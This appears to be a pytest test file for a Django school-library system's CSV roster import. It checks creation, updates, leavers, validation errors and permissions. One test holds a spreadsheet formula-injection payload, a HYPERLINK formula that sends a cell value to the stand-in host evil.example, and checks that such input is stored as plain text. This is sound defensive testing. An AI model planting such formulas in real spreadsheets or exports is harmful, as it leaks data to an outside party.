"""CSV rosters into the database: what is created, matched, changed and deactivated; every bad
row with its line and reason; nothing half-imported; a second run changes nothing."""

from __future__ import annotations

import datetime as dt

import pytest
from django.utils import timezone

from reol.core import services as core_services
from reol.core.models import AuditEvent, Membership, User
from reol.core.permissions import SYSTEM
from reol.patrons.models import Group, GroupMember, Patron

from .helpers import csv_bytes, run

pytestmark = pytest.mark.django_db

HEADER = ["Elev-ID", "Fornavn", "Efternavn", "Brugernavn", "Kortnummer", "Klasse"]
HEADER += ["Forældre e-mail", "Gyldig til"]
MAPPING = {
    "source_id": "Elev-ID",
    "first_name": "Fornavn",
    "last_name": "Efternavn",
    "username": "Brugernavn",
    "card_barcode": "Kortnummer",
    "groups": "Klasse",
    "guardian_emails": "Forældre e-mail",
    "valid_until": "Gyldig til",
}
ROWS = [
    ["1001", "Anna", "Ærø", "anna.ae", "K1001", "5.B", "mor@hjem.dk, far@hjem.dk", "31.07.2027"],
    ["1002", "Bo", "Øster", "bo.o", "K1002", "5.B", "", "46599"],
    ["1003", "Åse", "Ås", "aase", "K1003", "6.A", "", ""],
]


def _snapshot(school):
    """Everything an import writes, to compare before and after."""
    return (
        sorted(
            User.objects.values_list(
                "id", "username", "first_name", "last_name", "card_barcode", "email", "search_text"
            )
        ),
        sorted(Membership.objects.values_list("id", "user_id", "school_id", "role")),
        sorted(
            Patron.objects.values_list(
                "id",
                "user_id",
                "category",
                "grade",
                "guardian_emails",
                "valid_until",
                "source_id",
                "active",
                "left_on",
            )
        ),
        sorted(
            Group.objects.values_list("id", "name", "school_year", "grade", "source_id", "active")
        ),
        sorted(GroupMember.objects.values_list("id", "group_id", "patron_id", "role")),
    )


def test_a_csv_import_creates_people_patrons_groups_and_a_second_run_changes_nothing(
    world, tmp_path
):
    school = world.school_a
    data = csv_bytes([HEADER, *ROWS], delimiter=";", encoding="cp1252", bom=True)

    report = run(school, tmp_path, data, mapping=MAPPING, school_year="2026/27")

    assert report.saved and not report.errors
    assert report.counts["patrons_created"] == 3
    anna = Patron.objects.select_related("user").get(school=school, source_id="1001")
    assert (anna.user.first_name, anna.user.last_name, anna.user.card_barcode) == (
        "Anna",
        "Ærø",
        "K1001",
    )
    assert anna.guardians == ["mor@hjem.dk", "far@hjem.dk"]
    assert anna.valid_until == dt.date(2027, 7, 31) and anna.grade == 5
    assert not anna.user.has_usable_password()
    assert "ærø" in anna.user.search_text
    assert Membership.objects.filter(user=anna.user, school=school, role="student").exists()
    bo = Patron.objects.get(source_id="1002")
    assert bo.valid_until == dt.date(2027, 7, 31)  # Excel's serial date
    five_b = Group.objects.get(school=school, school_year="2026/27", name="5.B")
    assert five_b.grade == 5 and five_b.source_id == "csv:2026/27:5.B"
    assert set(five_b.patrons.values_list("source_id", flat=True)) == {"1001", "1002"}
    assert AuditEvent.objects.filter(action="roster.import").count() == 1
    before = _snapshot(school)

    again = run(school, tmp_path, data, mapping=MAPPING, school_year="2026/27")

    assert again.saved and again.counts["patrons_unchanged"] == 3
    assert not again.changed_anything
    assert _snapshot(school) == before


def test_changes_moves_and_leavers(world, tmp_path):
    school = world.school_a
    run(school, tmp_path, csv_bytes([HEADER, *ROWS]), mapping=MAPPING, school_year="2026/27")
    rows = [
        ["1001", "Anna", "Ærø-Hansen", "anna.ae", "K1001", "5.C", "", ""],  # new name, new class
        ["1002", "Bo", "Øster", "bo.o", "K1002", "5.B", "", ""],
    ]  # 1003 has left

    dry = run(
        school,
        tmp_path,
        csv_bytes([HEADER, *rows]),
        mapping=MAPPING,
        school_year="2026/27",
        dry_run=True,
    )

    assert not dry.saved
    assert dry.counts["patrons_updated"] == 1 and dry.counts["patrons_deactivated"] == 1
    (anna,) = [c for c in dry.changes if c["action"] == "update"]
    assert anna["fields"] == ["last_name", "groups"]  # a new family name, a new class
    assert {
        c["action"]: c["name"] for c in dry.changes if c["action"] in ("update", "deactivate")
    } == {
        "update": "Anna Ærø-Hansen",
        "deactivate": "Åse Ås",
    }
    assert Patron.objects.get(source_id="1003").active  # a dry run saves nothing

    run(school, tmp_path, csv_bytes([HEADER, *rows]), mapping=MAPPING, school_year="2026/27")

    anna = Patron.objects.get(source_id="1001")
    assert anna.user.last_name == "Ærø-Hansen"
    assert anna.guardians == ["mor@hjem.dk", "far@hjem.dk"]  # an empty cell erases nothing
    assert list(anna.groups.values_list("name", flat=True)) == ["5.C"]
    aase = Patron.objects.get(source_id="1003")
    assert (aase.active, aase.left_on) == (False, timezone.localdate())
    assert aase.groups.filter(name="6.A").exists()  # kept for the leavers' loans list
    assert not Group.objects.get(name="6.A").active

    back = run(school, tmp_path, csv_bytes([HEADER, *ROWS]), mapping=MAPPING, school_year="2026/27")
    assert back.counts["patrons_reactivated"] == 1
    assert Patron.objects.get(source_id="1003").active


def test_existing_people_are_matched_by_card_then_username_not_duplicated(world, tmp_path):
    school = world.school_a
    rows = [
        ["", "Elev", "A1", "ny-brugernavn", "a0001", "5.B", "", ""],  # card of elev-a1, any case
        ["", "Elev", "A2", "ELEV-A2", "", "5.B", "", ""],  # username of elev-a2
    ]
    people = User.objects.count()
    report = run(school, tmp_path, csv_bytes([HEADER, *rows]), mapping=MAPPING)
    assert report.saved, report.problems
    assert report.counts["existing_people_linked"] == 2
    assert User.objects.count() == people
    world.student_a2.refresh_from_db()
    assert world.student_a2.username == "elev-a2"  # the same name in other letters: kept
    assert Patron.objects.get(user=world.student_a1).school == school
    world.student_a1.refresh_from_db()
    assert world.student_a1.username == "ny-brugernavn"


def test_bad_rows_are_reported_with_their_line_and_nothing_is_half_imported(world, tmp_path):
    school = world.school_a
    rows = [
        ["2001", "God", "Elev", "god.elev", "G1", "5.B", "", ""],  # line 2
        ["2002", "", "", "uden.navn", "G2", "5.B", "", ""],  # 3: no name
        ["2003", "Dato", "Fejl", "dato", "G3", "5.B", "", "32.13.2027"],  # 4
        ["2004", "Dobbelt", "En", "dobbelt1", "G4", "5.B", "", ""],  # 5: same id as line 6
        ["2004", "Dobbelt", "To", "dobbelt2", "G5", "5.B", "", ""],  # 6
        ["2005", "Kort", "Taget", "kort", "B0001", "5.B", "", ""],  # 7: school B's student's card
        ["2006", "Navn", "Taget", "elev-b1", "", "5.B", "", ""],  # 8: school B's username
        ["2007", "Mel", "Lem", "med mellemrum", "", "5.B", "", ""],  # 9: not a username
    ]
    data = csv_bytes([HEADER, *rows])
    before = _snapshot(school)

    report = run(school, tmp_path, data, mapping=MAPPING, actor=world.librarian_a)

    assert not report.saved and report.refused
    assert _snapshot(school) == before
    reasons = {(p.file, p.line): p.reason for p in report.errors}
    assert set(reasons) == {("roster.csv", n) for n in (3, 4, 5, 6, 7, 8, 9)}
    assert "no name" in reasons[("roster.csv", 3)]
    assert "32.13.2027" in reasons[("roster.csv", 4)]
    assert "lines 5, 6" in reasons[("roster.csv", 5)]
    assert reasons[("roster.csv", 7)] == "Another person has this card barcode."
    assert "taken" in reasons[("roster.csv", 8)]
    assert "not allowed" in reasons[("roster.csv", 9)]
    assert report.counts["rows_rejected"] == 7

    chosen = run(school, tmp_path, data, mapping=MAPPING, good_rows=True, actor=world.librarian_a)

    assert chosen.saved and chosen.counts["patrons_created"] == 1
    assert Patron.objects.filter(school=school, source_id__startswith="200").count() == 1
    world.student_b1.refresh_from_db()
    assert world.student_b1.first_name == "Elev-B1"  # another school's student is untouched


def test_the_installation_may_move_a_student_between_schools_of_a_municipality(world, tmp_path):
    rows = [["4001", "Elev", "B1", "elev-b1", "B0001", "5.B", "", ""]]
    report = run(world.school_a, tmp_path, csv_bytes([HEADER, *rows]), mapping=MAPPING)
    assert report.saved and report.counts["existing_people_linked"] == 1
    assert Patron.objects.get(school=world.school_a, source_id="4001").user == world.student_b1


def test_a_rejected_row_of_a_known_patron_does_not_make_them_a_leaver(world, tmp_path):
    school = world.school_a
    run(school, tmp_path, csv_bytes([HEADER, *ROWS]), mapping=MAPPING)
    rows = [ROWS[0], ROWS[1], ["1003", "Åse", "Ås", "aase", "K1003", "6.A", "", "not a date"]]
    report = run(school, tmp_path, csv_bytes([HEADER, *rows]), mapping=MAPPING, good_rows=True)
    assert report.saved and report.counts["patrons_deactivated"] == 0
    assert Patron.objects.get(source_id="1003").active


def test_formula_injection_in_names_is_stored_as_text(world, tmp_path):
    rows = [
        ["3001", '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+SUM(1)", "f1", "", "", "", ""]
    ]
    report = run(world.school_a, tmp_path, csv_bytes([HEADER, *rows]), mapping=MAPPING)
    assert report.saved
    user = Patron.objects.get(source_id="3001").user
    assert user.first_name == '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    assert user.last_name == "+SUM(1)"


def test_missing_columns_are_named(world, tmp_path):
    data = csv_bytes([["Navn", "Klasse"], ["Anna Hansen", "5.B"]])
    report = run(world.school_a, tmp_path, data, mapping={"full_name": "Navn", "groups": "Klasse"})
    assert not report.saved
    (problem,) = report.errors
    assert problem.line == 0 and "could not recognise anyone" in problem.reason
    wrong = run(world.school_a, tmp_path, data, mapping={"full_name": "Name", "username": "User"})
    assert "no column named “Name”, “User”" in wrong.errors[0].reason


def test_the_mapping_is_guessed_from_danish_and_norwegian_column_names(world, tmp_path):
    header = ["Fornavn", "Etternavn", "Brukernavn", "Klasse", "Kategori", "E-post"]
    rows = [
        ["Kari", "Nordmann", "kari.n", "7A", "elev", "kari@skole.no"],
        ["Ola", "Lærer", "ola.l", "7A", "lærer", "ikke en adresse"],
    ]
    report = run(world.school_a, tmp_path, csv_bytes([header, *rows], delimiter=","))
    assert report.saved, report.problems
    ola = Patron.objects.get(user__username="ola.l")
    assert ola.category == "teacher" and ola.user.email == ""
    assert GroupMember.objects.get(patron=ola).role == "teacher"
    assert Membership.objects.filter(user=ola.user, role="teacher").exists()
    assert [p.level for p in report.problems] == ["warning"]  # the bad e-mail, left out


def test_usernames_are_made_when_the_file_has_none(world, tmp_path):
    header = ["Kortnummer", "Navn"]
    rows = [["X1", "Hansen, Anna"], ["X2", "Anna Hansen"], ["X3", "Ærlig Øre"]]
    report = run(world.school_a, tmp_path, csv_bytes([header, *rows]))
    assert report.saved, report.problems
    names = set(
        User.objects.filter(card_barcode__startswith="X").values_list("username", flat=True)
    )
    # ASCII (æ → ae, ø → oe): a username may be printed as a barcode
    assert names == {"anna.hansen", "anna.hansen2", "aerlig.oere"}


def test_people_of_another_municipality_are_never_matched(world, tmp_path):
    from reol.core.models import Municipality

    far = Municipality.objects.get(code="fjordby")
    far_school = core_services.create_school(SYSTEM, municipality=far, code="fjord", name="Fjord")
    core_services.create_person(
        SYSTEM, far_school, username="fjern", role="student", first_name="F", card_barcode="F1"
    )
    rows = [["", "Ny", "Elev", "fjern", "", "", "", ""]]
    report = run(world.school_a, tmp_path, csv_bytes([HEADER, *rows]), mapping=MAPPING)
    assert not report.saved and "taken" in report.errors[0].reason


def test_a_librarian_may_import_but_a_teacher_may_not(world, tmp_path):
    from django.core.exceptions import PermissionDenied

    data = csv_bytes([HEADER, ROWS[0]])
    report = run(world.school_a, tmp_path, data, mapping=MAPPING, actor=world.librarian_a)
    assert report.saved
    with pytest.raises(PermissionDenied):
        run(world.school_a, tmp_path, data, mapping=MAPPING, actor=world.teacher_a)
    with pytest.raises(PermissionDenied):
        run(world.school_b, tmp_path, data, mapping=MAPPING, actor=world.librarian_a)


def test_staff_are_linked_but_their_names_left_alone(world, tmp_path):
    rows = [["", "Andet", "Navn", "bib-a", "", "", "", ""]]
    report = run(
        world.school_a,
        tmp_path,
        csv_bytes([HEADER, *rows]),
        mapping=MAPPING,
        actor=world.librarian_a,
        default_category="teacher",
    )
    assert report.saved, report.problems
    world.librarian_a.refresh_from_db()
    assert world.librarian_a.first_name == "Bib-A"
    assert any("works at a school" in p.reason for p in report.warnings)
    # No patron row to edit, and no new role (issue 12).
    assert not Patron.objects.filter(user=world.librarian_a).exists()
    assert set(
        Membership.objects.filter(user=world.librarian_a).values_list("role", flat=True)
    ) == {"librarian"}


def test_100000_rows_are_read_and_checked(world, tmp_path):
    rows = [
        [str(n), f"Fornavn{n}", f"Efternavn{n}", f"elev{n}", f"K{n}", f"{n % 10}.{'ABCD'[n % 4]}"]
        for n in range(100_000)
    ]
    data = csv_bytes([HEADER, *rows])
    report = run(world.school_a, tmp_path, data, mapping=MAPPING, dry_run=True)
    assert not report.errors
    assert report.counts["patrons_created"] == 100_000
    assert report.counts["groups_created"] == 20


def test_one_class_however_its_name_is_capitalised(world, tmp_path):
    rows = [["1", "A", "A", "a", "", "5.B", "", ""], ["2", "B", "B", "b", "", "5.b", "", ""]]
    report = run(world.school_a, tmp_path, csv_bytes([HEADER, *rows]), mapping=MAPPING)
    assert report.saved and report.counts["groups_created"] == 1
    assert Group.objects.get(school=world.school_a).patrons.count() == 2


def test_a_column_of_guardians_languages_sets_each_familys_language(world, tmp_path):
    """A Norwegian family at a Danish school: their mails go out in Bokmål. A word the column
    may hold (``norsk``) is read as its code; one Reol does not write in is left out, warned."""
    school = world.school_a
    header = ["Elev-ID", "Fornavn", "Efternavn", "Forældre e-mail", "Forældresprog"]
    rows = [
        ["2001", "Nora", "Berg", "mor@hjem.no", "norsk"],
        ["2002", "Dan", "Hansen", "far@hjem.dk", ""],
        ["2003", "Ute", "Weiss", "mutter@heim.de", "tysk"],
    ]
    mapping = {
        "source_id": "Elev-ID",
        "first_name": "Fornavn",
        "last_name": "Efternavn",
        "guardian_emails": "Forældre e-mail",
        "guardian_language": "Forældresprog",
    }
    report = run(school, tmp_path, csv_bytes([header, *rows]), mapping=mapping)
    assert report.saved and not report.errors
    languages = dict(Patron.objects.values_list("source_id", "guardian_language"))
    assert languages == {"2001": "nb", "2002": "", "2003": ""}
    assert any("tysk" in str(p) for p in report.problems)
    # A later roster that says Danish changes it; one that says nothing keeps it.
    rows[0][4] = "da"
    rows[1][4] = ""
    run(school, tmp_path, csv_bytes([header, *rows]), mapping=mapping)
    assert Patron.objects.get(source_id="2001").guardian_language == "da"


def test_a_large_roster_import_analyzes_its_tables_on_postgresql(world, tmp_path, monkeypatch):
    """Like a large MARC import (catalog/tests/test_import_statistics.py): the planner has the
    new people's statistics at once, not at autovacuum's next round."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reol.core import bulk

    data = csv_bytes([HEADER, *ROWS], delimiter=";", encoding="cp1252", bom=True)
    monkeypatch.setattr(bulk, "STATISTICS_AFTER_ROWS", 3)  # 3 patrons, 2 groups, 3 members
    with CaptureQueriesContext(connection) as queries:
        assert run(world.school_a, tmp_path, data, mapping=MAPPING, school_year="2026/27").saved
    analyzed = [q["sql"] for q in queries.captured_queries if q["sql"].startswith("ANALYZE")]
    expected = 'ANALYZE "core_user", "core_membership", "patrons_patron", "patrons_group", '
    expected += '"patrons_groupmember"'
    assert analyzed == ([expected] if connection.vendor == "postgresql" else [])
    monkeypatch.setattr(bulk, "STATISTICS_AFTER_ROWS", 1)
    with CaptureQueriesContext(connection) as queries:  # the same file again writes nothing
        assert run(world.school_a, tmp_path, data, mapping=MAPPING, school_year="2026/27").saved
    assert not [q for q in queries.captured_queries if q["sql"].startswith("ANALYZE")]
